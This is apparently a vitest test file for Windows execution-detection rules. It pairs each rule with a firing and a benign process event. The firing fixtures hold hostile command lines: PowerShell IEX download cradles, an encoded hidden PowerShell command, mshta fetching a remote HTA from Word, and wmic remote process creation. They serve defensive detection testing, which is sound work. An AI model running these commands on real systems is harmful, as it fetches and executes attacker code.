import { describe } from 'vitest';
import { testRuleCases } from '../../testing/rule-cases.ts';
import {
  EXPLORER,
  POWERSHELL,
  proc,
  script,
  started,
  system,
} from '../../testing/rule-test-events.ts';
import { EXECUTION_RULES } from './execution-rules.ts';

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WORD = () => proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE');
const ENCODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';

describe('execution rules', () => {
  testRuleCases(EXECUTION_RULES, [
    {
      rule: 'powershell-encoded-command',
      fires: started(PS, `powershell -noP -sta -w 1 -enc ${ENCODED}`),
      quiet: started(PS, 'powershell -File C:\\Scripts\\backup-encoder.ps1 -Encoding utf8'),
    },
    {
      rule: 'powershell-encoded-execution',
      fires: system('cmd.exe', `cmd.exe /c powershell.exe -EncodedCommand ${ENCODED}`),
      quiet: started(PS, 'powershell -ExecutionPolicy RemoteSigned -File C:\\Scripts\\x.ps1'),
    },
    {
      rule: 'powershell-stealthy-flags',
      fires: started(PS, 'powershell -NoP -NonI -W Hidden -c "IEX (gp HKCU:Software\\x).y"'),
      quiet: started(PS, 'powershell -NoLogo -File C:\\Scripts\\inventory.ps1'),
    },
    {
      rule: 'powershell-unusual-parent',
      fires: started(PS, 'powershell', proc('C:\\Windows\\System32\\wscript.exe')),
      quiet: started(PS, 'powershell', EXPLORER()),
    },
    {
      rule: 'powershell-offensive-script',
      fires: script("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a')"),
      quiet: script('Get-ChildItem C:\\Logs | Remove-Item -WhatIf'),
    },
    {
      rule: 'vbscript-execution',
      fires: system(
        'wscript.exe',
        'wscript.exe C:\\Users\\ann\\Downloads\\invoice.vbs',
        EXPLORER(),
      ),
      quiet: system(
        'cscript.exe',
        'C:\\Windows\\system32\\cscript.exe C:\\Windows\\system32\\gatherNetworkInfo.vbs',
        proc('C:\\Windows\\System32\\netsh.exe'),
      ),
    },
    {
      rule: 'jscript-execution',
      fires: system('wscript.exe', 'wscript.exe "C:\\Users\\ann\\AppData\\Local\\Temp\\x.js"'),
      quiet: system(
        'wscript.exe',
        'wscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\prn.js',
      ),
    },
    {
      rule: 'shell-from-dropped-program',
      fires: system('cmd.exe', 'cmd.exe /c whoami', proc('C:\\Users\\ann\\Desktop\\GruntHTTP.exe')),
      quiet: system('cmd.exe', 'cmd.exe /c whoami', proc('C:\\Program Files\\Tool\\tool.exe')),
    },
    {
      rule: 'python-inline-or-server',
      fires: started('C:\\Python39\\python.exe', 'python.exe -m http.server 8000', POWERSHELL()),
      quiet: started('C:\\Python39\\python.exe', 'python.exe C:\\repo\\build.py', POWERSHELL()),
    },
    {
      rule: 'office-starts-tool',
      fires: system('cmd.exe', 'cmd.exe /c powershell -nop', WORD()),
      quiet: started('C:\\Windows\\splwow64.exe', 'splwow64.exe 8192', WORD()),
    },
    {
      rule: 'office-starts-tool-phishing',
      fires: system('mshta.exe', 'mshta.exe http://198.51.100.4/a.hta', WORD()),
      quiet: system('cmd.exe', 'cmd.exe /c dir', EXPLORER()),
    },
    {
      rule: 'user-runs-downloaded-program',
      fires: started('C:\\Users\\ann\\Downloads\\setup.exe', 'setup.exe', EXPLORER()),
      quiet: started('C:\\Program Files\\App\\app.exe', 'app.exe', EXPLORER()),
    },
    {
      rule: 'shortcut-starts-hidden-shell',
      fires: system(
        'cmd.exe',
        'cmd.exe /c start /min powershell.exe -nop -w hidden -ep bypass -c "x"',
        EXPLORER(),
      ),
      quiet: system('cmd.exe', 'cmd.exe /k cd C:\\Users\\ann', EXPLORER()),
    },
    {
      rule: 'double-extension-program',
      fires: started(
        'C:\\Users\\ann\\Temp\\happy_image.jpeg.exe',
        'happy_image.jpeg.exe',
        EXPLORER(),
      ),
      quiet: started('C:\\Users\\ann\\Temp\\image.viewer.exe', 'image.viewer.exe', EXPLORER()),
    },
    {
      rule: 'wmi-process-create',
      fires: system('wmic.exe', 'wmic /node:ws2 process call create "cmd.exe /c calc"'),
      quiet: system('wmic.exe', 'wmic process list brief'),
    },
    {
      rule: 'wmic-remote-node',
      fires: system('wmic.exe', 'wmic /node:WORKSTATION6 os get'),
      quiet: system('wmic.exe', 'wmic os get caption'),
    },
    {
      rule: 'wmi-provider-starts-process',
      fires: started(
        'C:\\Windows\\System32\\GruntHTTP2.exe',
        'C:\\Windows\\System32\\GruntHTTP2.exe',
        proc('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'),
      ),
      quiet: system(
        'wbem\\WMIADAP.exe',
        'wmiadap.exe /F /T /R',
        proc('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'),
      ),
    },
    {
      rule: 'scripted-execution-invocation',
      fires: script("iex ((new-object net.webclient).downloadstring('https://example.org/x.ps1'))"),
      quiet: script('Invoke-WebRequest https://example.org/report.csv -OutFile C:\\Temp\\r.csv'),
    },
  ]);
});
